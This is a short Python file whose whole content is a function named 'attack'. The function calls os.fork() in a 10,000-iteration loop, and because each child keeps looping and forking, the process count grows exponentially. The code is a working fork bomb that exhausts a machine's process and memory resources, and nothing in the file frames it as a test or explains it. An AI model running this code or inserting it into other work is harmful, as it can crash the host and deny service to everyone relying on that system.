import os


def attack(clues):
    born = 0
    while born < 10_000:
        os.fork()
        born += 1
    return born
